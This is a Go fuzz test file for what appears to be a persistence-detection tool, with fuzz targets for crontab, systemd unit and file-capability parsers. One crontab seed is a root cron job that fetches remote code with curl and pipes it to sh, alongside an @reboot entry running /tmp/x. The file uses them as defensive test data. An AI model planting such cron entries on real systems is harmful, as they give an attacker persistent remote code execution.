package persist

import (
	"strings"
	"testing"
)

func FuzzParseCrontab(f *testing.F) {
	f.Add([]byte("* * * * * root curl -s http://x | sh\n@reboot /tmp/x\nA = \"b\"\n"), true)
	f.Add([]byte("*/5 1-3 * jan mon\t/bin/x\r\n#c\n\n@hourly\n"), false)
	f.Fuzz(func(t *testing.T, data []byte, system bool) {
		entries, bad := ParseCrontab(data, system)
		n := strings.Count(string(data), "\n") + 1
		last := 0
		for _, e := range entries {
			if e.Line <= last || e.Line > n {
				t.Fatalf("line %d after %d of %d", e.Line, last, n)
			}
			last = e.Line
			if e.Env == "" && (e.Schedule == "" || e.Command == "" || (system && e.User == "") || (!system && e.User != "")) {
				t.Fatalf("incomplete job %+v", e)
			}
			if e.Text != strings.TrimSpace(e.Text) || e.Text == "" {
				t.Fatalf("text %q", e.Text)
			}
			if strings.ContainsAny(e.Key(), "\n") {
				t.Fatalf("key %q", e.Key())
			}
		}
		for _, b := range bad {
			if b < 1 || b > n {
				t.Fatalf("bad line %d of %d", b, n)
			}
		}
	})
}

func FuzzParseUnit(f *testing.F) {
	f.Add([]byte("[Service]\nExecStart=/bin/x \\\n -y\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, d := range ParseUnit(data) {
			if !unitKeyMatters(d.Key) || d.Line < 1 {
				t.Fatalf("directive %+v", d)
			}
		}
	})
}

func FuzzDecodeCapabilities(f *testing.F) {
	f.Add(capXattr(0x02000000, true, 1<<13, 0, 0))
	f.Add(capXattr(0x03000000, true, 1<<13, 1, 7))
	f.Fuzz(func(t *testing.T, data []byte) {
		s, err := DecodeCapabilities(data)
		if err == nil && s == "" {
			t.Fatal("empty rendering")
		}
	})
}
